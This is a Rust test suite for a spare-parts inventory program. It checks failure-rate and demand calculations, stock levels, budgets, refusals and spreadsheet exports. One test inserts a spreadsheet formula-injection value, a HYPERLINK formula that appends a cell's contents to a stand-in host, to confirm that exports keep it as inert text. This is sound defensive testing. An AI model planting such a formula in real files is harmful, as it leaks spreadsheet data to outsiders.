//! Figures of spares on the sample site, reckoned again from the register by other means.

use chrono::NaiveDate;
use serde_json::{Value, json};
use slotkeep_api::{FailureKind, Role};
use slotkeep_store::{Reader, StoreFault};
use slotkeep_tests::{Plant, files_of, only, root};
use std::io::Read;

fn read<T>(plant: &Plant, ask: impl FnOnce(&Reader<'_>) -> T) -> T {
    plant.api.store().read(|r| Ok::<_, StoreFault>(ask(r))).unwrap()
}

fn near(got: &Value, wanted: f64, relative: f64) {
    let got = got.as_f64().unwrap();
    assert!((got - wanted).abs() <= relative * wanted.abs().max(1e-12), "{got} for {wanted}");
}

/// A sample site with some files altered.
fn altered(change: impl Fn(&str, String) -> String) -> Plant {
    let plant = Plant::empty();
    let mut files = files_of(&root().join("sample-site"));
    for file in &mut files {
        let name = file["name"].as_str().unwrap().to_owned();
        let text = file["text"].as_str().unwrap().to_owned();
        file["text"] = json!(change(&name, text));
    }
    plant.call("site.import", json!({ "files": files }));
    plant
}

/// Lines of models that one storeroom alone has to do with.
fn alone(table: &Value) -> Vec<&Value> {
    let of = |model: &Value| only(&table["lines"], |line| line["model"] == *model).len();
    only(&table["lines"], |line| of(&line["model"]) == 1)
}

/// One serialised model that stands in slots, has a stated rate and is still sold, with its line.
fn a_model(plant: &Plant) -> (String, Value) {
    let table = plant.call("spares.table", json!({}));
    let line = alone(&table).into_iter().find(|line| {
        line["method"] == "failures"
            && line["installed"].as_u64().unwrap() > 3
            && line["last_order_on"].is_null()
            && line["chosen"].is_null()
            && line["planned"] == json!(0)
    });
    let line = line.unwrap().clone();
    (line["model"].as_str().unwrap().to_owned(), line)
}

/// Unit-hours from the units and stays of the register, the rate by the conjugate update with heat
/// by Arrhenius, demand and service by summing negative binomial chances: none of it by the
/// functions of the program.
#[test]
fn the_figures_of_a_model_follow_from_the_register() {
    let plant = Plant::sample();
    let (part_no, _) = a_model(&plant);
    let shown = plant.call("spares.model", json!({ "model": part_no }));
    let known = slotkeep_domain::model::PartNo::parse(&part_no).unwrap();
    let (units, stays, model) = read(&plant, |r| {
        use slotkeep_domain::register::View;
        (r.units_of(&known).unwrap(), r.stays_of(&known).unwrap(), r.model(&known).unwrap())
    });
    let standing: Vec<_> = units.iter().filter(|unit| unit.place.slot().is_some()).collect();
    // Each cabinet's mean factor of heat stands beside its temperature; it is reckoned again where
    // that does not change through the year.
    let boltzmann_ev = 8.617_333_262e-5;
    let (at_c, ev) =
        (model.failure_rate_at_c.unwrap_or(40.0), model.failure_activation_ev.unwrap_or(0.4));
    let factor = |cabinet: &str| {
        let places = only(&shown["standing"], |place| place["cabinet"] == cabinet);
        let place = places[0];
        let factor = place["factor"].as_f64().unwrap();
        if place["temperature_from"] != "monthly" {
            let c = place["temperature_c"].as_f64().unwrap();
            let own = (ev / boltzmann_ev * (1.0 / (at_c + 273.15) - 1.0 / (c + 273.15))).exp();
            assert!((factor / own - 1.0).abs() < 1e-6, "{cabinet}: {factor} for {own}");
        }
        factor
    };
    let hours = |from: chrono::DateTime<chrono::Utc>, to: chrono::DateTime<chrono::Utc>| {
        (to - from).num_seconds() as f64 / 3600.0
    };
    let (mut unit_h, mut weighted_h, mut now_weighted, mut failures) = (0.0, 0.0, 0.0, 0.0);
    // They count to the end of the day, whenever the question is asked.
    let tomorrow = plant.now.date_naive() + chrono::Days::new(1);
    let end = tomorrow.and_time(chrono::NaiveTime::MIN).and_utc();
    for unit in &standing {
        let here = factor(unit.place.slot().unwrap().cabinet().as_str());
        now_weighted += here;
        if !unit.since_unknown {
            unit_h += hours(unit.since, end);
            weighted_h += hours(unit.since, end) * here;
        }
    }
    for stay in &stays {
        let here = stay.slot.as_ref().map_or(1.0, |slot| factor(slot.cabinet().as_str()));
        unit_h += hours(stay.from, stay.to);
        weighted_h += hours(stay.from, stay.to) * here;
        if stay.ended_by == slotkeep_domain::register::StayEnd::Failure {
            failures += 1.0;
        }
    }
    near(&shown["rate"]["unit_hours"], unit_h, 1e-9);
    assert_eq!(shown["rate"]["failures"].as_f64().unwrap(), failures);
    if !shown["rate"]["pooled_with"].as_array().unwrap().is_empty()
        || shown["wear"]["used"] == json!(true)
    {
        return;
    }
    let worth = model.failure_rate_worth.unwrap_or(0.5);
    let stated = shown["rate"]["stated_fit"].as_f64().unwrap() * 1e-9;
    let mean_factor = now_weighted / standing.len() as f64;
    let shape = worth + failures;
    let exposure = worth / (stated / mean_factor) + weighted_h;
    near(&shown["rate"]["learned_fit"], shape / exposure * 1e9 * mean_factor, 1e-9);

    // Demand until a piece is there again: negative binomial by its recurrence.
    let days = shown["lead_demand"]["days"].as_f64().unwrap();
    let share = now_weighted * days * 24.0 / exposure;
    let (p, q) = (1.0 / (1.0 + share), share / (1.0 + share));
    let mut chance = p.powf(shape);
    let mut chances = Vec::new();
    for k in 0..60 {
        chances.push(chance);
        chance *= (shape + f64::from(k)) / f64::from(k + 1) * q;
    }
    if shown["rate"]["no_fault_found"] == json!(0)
        && shown["lead_demand"]["parts"][0]["what"] == "failures"
    {
        for (got, wanted) in
            shown["lead_demand"]["probabilities"].as_array().unwrap().iter().zip(&chances)
        {
            near(got, *wanted, 1e-6);
        }
    }
}

#[test]
fn levels_reach_their_targets_with_the_least_stock() {
    let plant = Plant::sample();
    let table = plant.call("spares.table", json!({}));
    let mut checked = 0;
    let plain = alone(&table).into_iter().filter(|line| {
        line["policy"] == "base_stock"
            && line["target"]["measure"] == "no_stock_out"
            && line["chosen"].is_null()
    });
    for line in plain {
        let target = line["target"]["value"].as_f64().unwrap();
        let level = line["order_up_to"].as_u64().unwrap();
        assert!(line["at_level"]["no_stock_out"].as_f64().unwrap() >= target, "{line}");
        let model = plant.call("spares.model", json!({ "model": line["model"] }));
        let curve = only(&model["curves"], |curve| curve["storeroom"] == line["storeroom"])[0];
        if let Some(less) = level.checked_sub(1) {
            let below = &curve["by_stock"][less as usize];
            assert!(below["no_stock_out"].as_f64().unwrap() < target, "{line}");
        }
        // Hours of empty places are pieces owed times the hours of a year, and nothing else.
        let owed = line["now"]["backorders"].as_f64().unwrap();
        near(&line["now"]["down_time_h"], owed * 8760.0, 1e-9);
        checked += 1;
        if checked == 6 {
            break;
        }
    }
    assert!(checked > 2, "{checked}");
}

#[test]
fn classes_follow_the_most_critical_slot_the_value_and_the_choice() {
    let plant = Plant::sample();
    let (model, line) = a_model(&plant);
    let slot = plant.call("place.slot", json!({ "slot": line["class_from_slot"] }));
    assert_eq!(slot["criticality"], line["class"], "{slot:#}");
    for by in ["share_before", "share_after"] {
        let table = plant.call("spares.table", json!({ "abc_by": by }));
        let mut valued: Vec<(&str, f64)> = only(&table["lines"], |l| !l["value_class"].is_null())
            .iter()
            .map(|l| {
                (l["value_class"].as_str().unwrap(), l["yearly_value_cents"].as_f64().unwrap())
            })
            .collect();
        valued.sort_by(|a, b| b.1.total_cmp(&a.1));
        assert!(valued.is_sorted_by(|a, b| a.0 <= b.0), "{by}: {valued:?}");
    }
    let other = if line["class"] == "desirable" { "vital" } else { "desirable" };
    let choose = json!({ "model": model, "class": other, "reason": "Bypass valve beside it" });
    plant.call("spares.choose", choose);
    let after = plant.call("spares.table", json!({ "model": model }));
    let now = &after["lines"][0];
    assert_eq!((&now["class"], &now["class_from_slot"]), (&json!(other), &json!(null)));
    assert_eq!(now["chosen"]["reason"], "Bypass valve beside it");
    plant.call(
        "spares.choose",
        json!({ "model": model, "reorder_at": 4, "order_up_to": 6,
                                        "reason": "Works holiday" }),
    );
    let after = plant.call("spares.table", json!({ "model": model }));
    let now = &after["lines"][0];
    assert_eq!((&now["reorder_at"], &now["order_up_to"]), (&json!(4), &json!(6)));
    assert_eq!(now["class"], line["class"], "a choice takes the place of the one before");
    let position = now["now"]["stock"].as_i64().unwrap();
    let wanted = if position <= 4 { 6 - position } else { 0 };
    assert!(now["order_now"].as_i64().unwrap() >= wanted, "{now}");
    plant.call("spares.choose", json!({ "model": model, "reason": "Holiday is over" }));
    let after = plant.call("spares.table", json!({ "model": model }));
    assert_eq!(after["lines"][0]["order_up_to"], line["order_up_to"]);
    plant.verify_clean();
}

#[test]
fn a_planned_change_of_the_plant_takes_stock_and_raises_demand() {
    let plant = Plant::sample();
    let (model, before) = a_model(&plant);
    let soon = plant.now.date_naive() + chrono::Duration::days(20);
    let plan = json!({ "model": model, "on": soon, "installed_change": 40, "from_stock": 2,
                       "reason": "Third train" });
    let planned = plant.call("spares.plan_change", plan)["entry"].clone();
    let after = plant.call("spares.table", json!({ "model": model }))["lines"][0].clone();
    assert_eq!(after["planned"].as_u64().unwrap(), before["planned"].as_u64().unwrap() + 2);
    assert!(after["lead_demand"].as_f64() > before["lead_demand"].as_f64(), "{after}");
    let open = plant.call("spares.planned", json!({}));
    assert_eq!(only(&open, |it| it["planned"] == planned)[0]["state"], "waiting");
    plant.call(
        "spares.settle_change",
        json!({ "planned": planned, "happened": false, "reason": "No money" }),
    );
    let back = plant.call("spares.table", json!({ "model": model }))["lines"][0].clone();
    assert_eq!((&back["planned"], &back["order_now"]), (&before["planned"], &before["order_now"]));
    let open = plant.call("spares.planned", json!({}));
    assert!(only(&open, |it| it["planned"] == planned).is_empty());
    let all = plant.call("spares.planned", json!({ "settled": true }));
    assert_eq!(only(&all, |it| it["planned"] == planned)[0]["state"], "called_off");
    plant.verify_clean();
}

#[test]
fn a_projection_is_a_fan_that_worsens_with_the_supplier_gone() {
    let plant = Plant::sample();
    let (model, _) = a_model(&plant);
    let what_if = json!({ "supplier_lost": true, "warmer_k": 10, "units_pct": 50 });
    let ask = json!({ "model": model, "months": 36, "what_if": what_if });
    let shown = plant.call("spares.projection", ask.clone());
    assert_eq!(shown, plant.call("spares.projection", ask), "equal questions, equal answers");
    let (now, then) = (&shown["present"], &shown["what_if"]);
    assert_eq!(now["months"].as_array().unwrap().len(), 36);
    for month in now["months"].as_array().unwrap() {
        let at = |name: &str| month[name].as_f64().unwrap();
        let fan = [at("p05"), at("p25"), at("p50"), at("p75"), at("p95")];
        assert!(fan.is_sorted(), "{month}");
        assert!((0.0..=1.0).contains(&at("stock_out_by")), "{month}");
    }
    let ever = |case: &Value| case["stock_out_ever"].as_f64().unwrap();
    assert!(ever(then) >= ever(now), "{} {}", ever(then), ever(now));
}

#[test]
fn the_best_for_a_budget_is_no_worse_than_step_by_step() {
    let plant = Plant::sample();
    let whole = plant.call("spares.budget", json!({}));
    assert!(whole["best"].is_null());
    let curve = whole["curve"].as_array().unwrap();
    assert!(curve.len() > 10);
    let owed = |point: &Value| point["backorders"].as_f64().unwrap();
    assert!(curve.windows(2).all(|pair| owed(&pair[1]) <= owed(&pair[0]) + 1e-15));
    let gain = |point: &Value| point["gain"].as_f64().unwrap();
    assert!(curve.windows(2).all(|pair| gain(&pair[1]) <= gain(&pair[0]) * (1.0 + 1e-9)));
    // Between two points of the curve the solver may do better, never worse.
    let between =
        (curve[4]["spent_cents"].as_i64().unwrap() + curve[5]["spent_cents"].as_i64().unwrap()) / 2;
    let round = plant.call("spares.budget", json!({ "budget_cents": between }));
    let (best, steps) = (&round["best"], &round["by_steps"]);
    assert!(owed(best) <= owed(steps) + 1e-15, "{best} {steps}");
    assert!(best["spent_cents"].as_i64().unwrap() <= between);
    let bought: i64 = best["purchases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|it| it["cost_cents"].as_i64().unwrap())
        .sum();
    assert_eq!(bought, best["spent_cents"].as_i64().unwrap());
    let left = only(&round["left_out"], |_| true);
    assert!(left.iter().all(|it| !it["message"].as_str().unwrap().is_empty()));
}

/// Pieces of dead stock of a model over all storerooms.
fn dead_of(plant: &Plant, model: &str) -> u64 {
    let round = plant.call("spares.budget", json!({}));
    let lines = only(&round["dead"], |line| line["model"] == model);
    lines.iter().map(|line| line["pieces"].as_u64().unwrap()).sum()
}

#[test]
fn only_pieces_above_the_level_are_wanted_by_nothing() {
    // A vital controller, of which none failed for years; a second one is asked for in three years
    // with less than 1 in 20.
    let single = "MP-CP3";
    let plant = Plant::sample();
    let round = plant.call("spares.budget", json!({}));
    for line in only(&round["dead"], |_| true) {
        let number = |field: &str| line[field].as_u64().unwrap();
        let of_model = dead_of(&plant, line["model"].as_str().unwrap());
        let kept = number("level") + number("wanted");
        assert!(number("usable") >= kept + of_model, "{line}");
        let told = line["message"].as_str().unwrap();
        let above = number("usable") - kept;
        let lie = if above == 1 { "lies" } else { "lie" };
        let said = format!("usable {above} {lie} above the level of {}", number("level"));
        assert!(told.contains(&said), "{line}");
        let opened = &line["sum"][0];
        assert_eq!(opened["value"].as_f64(), Some(of_model as f64), "{line}");
        assert_eq!(opened["parts"][0]["value"].as_f64(), Some(number("usable") as f64), "{line}");
        let parts = only(&opened["parts"], |part| part["unit"] == "pieces");
        let sum: f64 = parts.iter().map(|part| part["value"].as_f64().unwrap()).sum();
        assert_eq!(sum, of_model as f64, "the parts add up: {line}");
    }
    let held = plant.call("spares.table", json!({ "model": single }))["lines"].clone();
    let sum = |field: &str| -> u64 {
        only(&held, |_| true).iter().map(|line| line[field].as_u64().unwrap()).sum()
    };
    assert_eq!((sum("on_hand"), sum("order_up_to")), (2, 1), "{held}");
    assert_eq!(dead_of(&plant, single), 1);
    let level = |up_to: u32| {
        let point = up_to.saturating_sub(1);
        let level = json!({ "model": single, "storeroom": "ST1", "reorder_at": point,
                            "order_up_to": up_to, "reason": "Insurers ask for it" });
        plant.call("spares.choose", level);
        dead_of(&plant, single)
    };
    assert_eq!(level(2), 0, "both lie within the level, however rarely they are asked for");
    assert_eq!(level(0), 1, "one may still be asked for");
    let on = plant.now.date_naive() + chrono::Duration::days(300);
    let take = json!({ "model": single, "on": on, "installed_change": 1, "from_stock": 1,
                       "reason": "New cabinet" });
    let planned = plant.call("spares.plan_change", take);
    assert_eq!(dead_of(&plant, single), 0, "a dated change takes it");
    let off = json!({ "planned": planned["entry"], "happened": false, "reason": "Called off" });
    plant.call("spares.settle_change", off);
    assert_eq!(dead_of(&plant, single), 1);
    let pick = plant.call("stock.pick", json!({ "model": single, "pieces": 1 }));
    let keep = json!({ "unit": pick["takes"][0]["label"], "for_what": "The works next door" });
    plant.call("stock.reserve", keep);
    assert_eq!(dead_of(&plant, single), 0, "one is kept for somebody");
}

#[test]
fn two_echelons_are_levelled_and_split_together() {
    let plant = altered(|name, text| match name {
        "stores.csv" => "code,title,supplied_by,resupply_d,areas\nST1,Main store,,,\n\
                         ST2,Substation store,ST1,2,PW ER\n"
            .to_owned(),
        _ => text,
    });
    let table = plant.call("spares.table", json!({ "storeroom": "ST2" }));
    let lines = only(&table["lines"], |line| line["supplied_by"] == "ST1");
    assert!(!lines.is_empty(), "{table}");
    assert!(lines.iter().all(|line| line["order_now"] == json!(0)), "ST2 fetches and never orders");
    let served = lines.iter().find(|line| line["installed"].as_u64().unwrap() > 0).unwrap();
    let ask = json!({ "model": served["model"], "pieces": 4 });
    let split = plant.call("spares.stores", ask);
    let best: u64 = split["central"]["best"].as_u64().unwrap()
        + split["storerooms"][0]["best"].as_u64().unwrap();
    assert_eq!(best, 4);
    assert_eq!(split["reckoning"], "exact");
    let by = |word: &str| {
        only(&split["by_reckoning"], |it| it["reckoning"] == word)[0]["backorders"]
            .as_f64()
            .unwrap()
    };
    near(&split["total_now"]["backorders"], by("exact"), 1e-9);
    assert!(by("metric") <= by("exact") * (1.0 + 1e-9), "METRIC never owes more");
}

#[test]
fn a_last_order_is_the_least_that_is_worth_it() {
    let plant = Plant::sample();
    let (model, _) = a_model(&plant);
    let ask = json!({ "model": model, "last_order_on": "2027-06-30", "until": "2045-06-30",
                      "too_few_cents": 9_000_000, "too_many_cents": 1_000 });
    let shown = plant.call("spares.last_chance", ask);
    assert!(shown["enough"].as_f64().unwrap() >= 9_000_000.0 / 9_001_000.0 - 1e-12, "{shown}");
    let costs = shown["by_quantity"].as_array().unwrap();
    let least = costs.iter().map(|it| it["total_cents"].as_i64().unwrap()).min().unwrap();
    let own = only(&shown["by_quantity"], |it| it["buy"] == shown["buy"])[0];
    assert!(own["total_cents"].as_i64().unwrap() <= least + 1, "{shown}");
    let years = shown["years"].as_array().unwrap();
    assert_eq!(years.last().unwrap()["until"], "2045-06-30");
    let out = |year: &Value| year["out_without"].as_f64().unwrap();
    assert!(years.windows(2).all(|pair| out(&pair[1]) >= out(&pair[0]) - 1e-12));
}

#[test]
fn what_cannot_be_reckoned_is_refused_and_says_what_to_do() {
    let plant = Plant::sample();
    let (model, _) = a_model(&plant);
    let cases = [
        ("spares.table", json!({ "model": "NO-SUCH" }), FailureKind::NotFound, "no model"),
        ("spares.table", json!({ "storeroom": "ST9" }), FailureKind::NotFound, "one of ST1"),
        ("spares.table", json!({ "abc_by": "count" }), FailureKind::BadInput, "share_before"),
        ("spares.model", json!({ "model": "NO-SUCH" }), FailureKind::NotFound, "no model"),
        (
            "spares.projection",
            json!({ "model": model, "months": 0 }),
            FailureKind::BadInput,
            "1 to",
        ),
        (
            "spares.projection",
            json!({ "model": model, "what_if": { "units_pct": -101 } }),
            FailureKind::BadInput,
            "-100 to 1000",
        ),
        (
            "spares.projection",
            json!({ "model": model, "what_if": { "lead_time_factor": 0 } }),
            FailureKind::BadInput,
            "0.1 to 10",
        ),
        ("spares.budget", json!({ "budget_cents": -1 }), FailureKind::BadInput, "zero or more"),
        ("spares.budget", json!({ "weigh": "luck" }), FailureKind::BadInput, "missing_cost"),
        ("spares.stores", json!({ "model": model }), FailureKind::Refused, "stores.csv"),
        ("spares.last_chance", json!({ "model": model }), FailureKind::BadInput, "last_order_on"),
        (
            "spares.last_chance",
            json!({ "model": model, "last_order_on": "2020-01-01" }),
            FailureKind::Refused,
            "substitute",
        ),
        (
            "spares.choose",
            json!({ "model": model, "reorder_at": 2, "reason": "x" }),
            FailureKind::BadInput,
            "missing",
        ),
        (
            "spares.choose",
            json!({ "model": model, "method": "guess", "reason": "x" }),
            FailureKind::BadInput,
            "croston",
        ),
        (
            "spares.choose",
            json!({ "model": model, "class": "vital", "reason": " " }),
            FailureKind::Refused,
            "reason",
        ),
    ];
    for (command, input, kind, words) in cases {
        if command == "spares.stores" && plant.try_call(command, input.clone()).is_ok() {
            continue;
        }
        let failure = plant.refused(command, input.clone());
        assert_eq!(failure.kind, kind, "{command} {input}: {failure}");
        assert!(failure.message.contains(words), "{words:?} is not said by {failure}");
    }
    let technician = Plant::sample().as_role(Role::Technician);
    let choose = json!({ "model": model, "class": "vital", "reason": "x" });
    assert_eq!(technician.refused("spares.choose", choose).kind, FailureKind::NotAllowed);
}

/// Of a model without price, lead time and rate the list says so and goes on.
#[test]
fn what_the_catalogue_does_not_say_is_told_in_the_line() {
    let (model, _) = a_model(&Plant::sample());
    let bare = altered(|name, text| {
        if name != "models.json" {
            return text;
        }
        let mut catalogue: Value = serde_json::from_str(&text).unwrap();
        for line in catalogue["models"].as_array_mut().unwrap() {
            if line["part_no"] == model.as_str() {
                let line = line.as_object_mut().unwrap();
                for field in [
                    "price_cents",
                    "lead_time_d",
                    "failure_rate_fit",
                    "mtbf_h",
                    "parts_count",
                    "price_breaks",
                    "family",
                ] {
                    line.remove(field);
                }
            }
        }
        catalogue.to_string()
    });
    let line = bare.call("spares.table", json!({ "model": model }))["lines"][0].clone();
    assert_eq!((&line["lead_time_d"], &line["lead_time_assumed"]), (&json!(90), &json!(true)));
    assert_eq!((&line["price_cents"], &line["cost_cents"]), (&json!(null), &json!(null)));
    assert!(line["notes"].to_string().contains("90 days are assumed"), "{line}");
    let budget = bare.call("spares.budget", json!({}));
    let left = only(&budget["left_out"], |it| it["model"] == model.as_str());
    assert!(left[0]["message"].as_str().unwrap().contains("price"), "{budget}");
    let failure = bare
        .refused("spares.last_chance", json!({ "model": model, "last_order_on": "2027-06-30" }));
    assert!(failure.message.contains("too_few_cents"), "{failure}");
}

/// A title that would run as a formula reaches spreadsheet programs as a text.
#[test]
fn sheets_hold_numbers_dates_and_texts_and_never_a_formula() {
    let hostile = "=HYPERLINK(\"http://x.invalid?\"&A1)";
    let (model, _) = a_model(&Plant::sample());
    let plant = altered(|name, text| {
        if name != "models.json" {
            return text;
        }
        let mut catalogue: Value = serde_json::from_str(&text).unwrap();
        for line in catalogue["models"].as_array_mut().unwrap() {
            if line["part_no"] == model.as_str() {
                line["title"] = json!(hostile);
            }
        }
        catalogue.to_string()
    });
    for what in ["levels", "orders", "stock", "projection", "curve"] {
        let ask = |format: &str| json!({ "what": what, "format": format, "model": model });
        let text = String::from_utf8(plant.file("spares.sheet", ask("csv"))).unwrap();
        assert!(text.ends_with("\r\n") && !text.contains("\"=HYPER"), "{what}: {text}");
        let bytes = plant.file("spares.sheet", ask("xlsx"));
        assert_eq!(bytes, plant.file("spares.sheet", ask("xlsx")), "equal bytes for equal stock");
        let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{what} holds a formula");
        assert!(sheet.contains("state=\"frozen\"") && sheet.contains("<col "), "{what}");
    }
    let all = |what: &str| json!({ "what": what, "format": "xlsx" });
    let bytes = plant.file("spares.sheet", all("levels"));
    let texts = part(&bytes, "xl/sharedStrings.xml");
    assert!(texts.contains("=HYPERLINK(") && texts.contains("Price (whole money)"), "{texts}");
    // Slots begin with a plus: a text in one file, marked in the other.
    assert!(texts.contains("<t>+K"), "{texts}");
    let text = plant.file("spares.sheet", json!({ "what": "levels", "format": "csv" }));
    let text = String::from_utf8(text).unwrap();
    assert!(text.contains("\"'+K") && text.contains("\"'=HYPERLINK(\"\"http"), "{text}");
    let unknown = plant.api.call(
        "spares.sheet",
        slotkeep_api::Payload::Json(json!({ "what": "levels", "format": "ods" })),
        &plant.caller,
        plant.now,
        &mut |_: &str, _, _| {},
    );
    assert!(unknown.unwrap_err().message.contains("csv or xlsx"));
}

/// The text of one part of an Office Open XML file.
fn part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

/// Days that replies name are days.
#[test]
fn every_line_of_the_list_gives_its_reason() {
    let plant = Plant::sample();
    let table = plant.call("spares.table", json!({}));
    let lines = table["lines"].as_array().unwrap();
    assert!(lines.len() > 20);
    for (rank, line) in (1..).zip(lines) {
        assert_eq!(line["rank"], json!(rank));
        let reason = line["reason"].as_str().unwrap();
        assert!(reason.ends_with('.') && reason.len() > 10, "{line}");
        if let Some(on) = line["lasts_until"].as_str() {
            assert!(NaiveDate::parse_from_str(on, "%Y-%m-%d").is_ok());
        }
    }
    let urgent = |line: &Value| line["order_now"] != json!(0) || line["fetch_now"] != json!(0);
    assert!(
        lines.is_sorted_by(|a, b| urgent(a) || !urgent(b)),
        "what is to be ordered comes first"
    );
}
